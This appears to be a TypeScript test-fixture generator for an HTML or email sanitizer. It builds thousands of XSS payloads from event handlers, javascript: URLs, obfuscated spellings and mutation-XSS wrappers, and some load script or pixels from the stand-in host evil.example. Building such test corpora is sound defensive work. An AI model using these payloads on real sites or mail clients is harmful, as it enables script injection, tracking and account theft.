/** Markup that acts when it is read as markup: what runs, in how it is spelt, in what it is wrapped. Each piece would set `top.pwned`. */
const RUN = 'top.pwned=1';
const FAR = 'https://evil.example';

/** Elements that run, fetch, send or lead away by themselves. */
const ACTING: readonly string[] = [
  `<script>${RUN}</script>`, `<script src=${FAR}/x.js></script>`, `<img src=x onerror=${RUN}>`, `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><set onbegin=${RUN} attributeName=x to=1>`, `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`, `<iframe src="javascript:${RUN}"></iframe>`, `<object data="javascript:${RUN}"></object>`, `<embed src="javascript:${RUN}">`, `<body onload=${RUN}>`, `<body onpageshow=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`, `<video><source onerror=${RUN} src=x></video>`, `<audio src=x onerror=${RUN}>`, `<input autofocus onfocus=${RUN}>`, `<select autofocus onfocus=${RUN}>`, `<marquee onstart=${RUN}>x</marquee>`, `<div style="animation:a" onanimationstart=${RUN}>`,
  `<style onload=${RUN}>a{}</style>`, `<link rel=stylesheet href=${FAR}/x.css onload=${RUN}>`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<meta http-equiv=refresh content="0;url=${FAR}">`, `<base href=${FAR}/>`, `<form action=${FAR} id=f><input name=x></form>`,
  `<a href="javascript:${RUN}">x</a>`, `<a href="${FAR}" ping="${FAR}/ping" target=_top>x</a>`, `<math><maction actiontype="statusline#x" xlink:href="javascript:${RUN}">x</maction></math>`, `<img src=${FAR}/pixel.png>`, `<img srcset="${FAR}/p.png 1x">`, `<table background=${FAR}/b.png>`,
  `<div style="background:url(${FAR}/b.png)">x</div>`, `<div style="background:u\\72l(${FAR}/b.png)">x</div>`, `<style>@import "${FAR}/x.css";</style>`, `<style>*{background:url(${FAR}/c.png)}</style>`, `<div style="position:fixed;inset:0;z-index:9">cover</div>`, `<picture><source srcset=${FAR}/s.png><img></picture>`,
  `<template><img src=x onerror=${RUN}></template>`, `<dialog open onclose=${RUN}><form method=dialog><button autofocus>x</button></form></dialog>`, `<button popovertarget=p>x</button><div id=p popover onbeforetoggle=${RUN}>x</div>`, `<img name=getElementById><img id=body><form name=cookie></form>`, `<x-y onfocus=${RUN} autofocus tabindex=1>x</x-y>`,
];

/** The same, spelt as parsers still take it. */
const SPELLINGS: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => html.replace(/<([a-z]+)/gi, (_, name: string) => `<${[...name].map((letter, i) => (i % 2 ? letter.toUpperCase() : letter)).join('')}`),
  (html) => html.replace(/ (on[a-z]+=)/gi, '/$1'),
  (html) => html.replace(/ (on[a-z]+)=/gi, '\n\t$1\u000c=\n'),
  (html) => html.replace(/javascript:/g, 'java&#115;cript&colon;').replace(/top\./g, 'top&period;'),
  (html) => html.replace(/javascript:/g, ' \u0001java\tscr\nipt:'),
  (html) => html.replace(/<(?=[a-z])/gi, '<\u0000').concat(html.replace(/>$/, '')),
  (html) => `"'\`>${html}`,
];

/** What the piece is put into: places where a parser reads it twice, once as text and once as markup. */
const WRAPS: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `<p title="${html.replace(/"/g, '&quot;')}">x</p>`,
  (html) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${html.replace(/"/g, '&quot;').replace(/</g, '&lt;').replace(/>/g, '&gt;')}">`,
  (html) => `<svg></p><style><a id="</style>${html.replace(/"/g, "'")}">`,
  (html) => `<noscript><p title="</noscript>${html.replace(/"/g, "'")}">`,
  (html) => `<form><math><mtext></form><form><mglyph><style></math>${html}`,
  (html) => `<svg><title><style></title>${html}`,
  (html) => `<select><noembed></select><style></noembed>${html}</style></select>`,
  (html) => `<textarea></textarea\n>${html}</textarea>`,
  (html) => `<xmp><p title="</xmp>${html.replace(/"/g, "'")}">`,
  (html) => `<iframe><p id="</iframe>${html.replace(/"/g, "'")}"></iframe>`,
  (html) => `<!--><img title="-->${html.replace(/"/g, "'")}">-->`,
  (html) => `<svg><![CDATA[</svg>]]>${html}`,
  (html) => `<?xml version="1.0"?><!doctype x [<!entity e "${html.replace(/"/g, "'")}">]>&e;`,
  (html) => `${'<div>'.repeat(520)}${html}`,
  (html) => `<table><tr><td><svg><desc>${html}</desc></svg></table>`,
  (html) => `<option><style></option></select>${html}</style>`,
  (html) => `<math><annotation-xml encoding="text/html">${html}</annotation-xml></math>`,
];

/** Every piece in every spelling and every wrap: thousands. */
export function hostileMails(): string[] {
  return [...new Set(ACTING.flatMap((html) => SPELLINGS.flatMap((spell) => WRAPS.map((wrap) => wrap(spell(html))))))];
}
